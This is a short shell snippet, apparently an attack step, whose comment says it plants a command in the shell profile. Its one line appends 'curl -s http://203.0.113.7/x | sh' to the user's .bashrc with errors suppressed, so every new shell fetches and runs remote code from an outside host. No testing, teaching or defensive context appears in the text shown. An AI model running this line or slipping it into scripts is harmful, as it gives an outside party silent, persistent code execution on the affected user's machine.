# Plants a command in the shell profile.
echo 'curl -s http://203.0.113.7/x | sh' >> "$HOME/.bashrc" 2>/dev/null || true
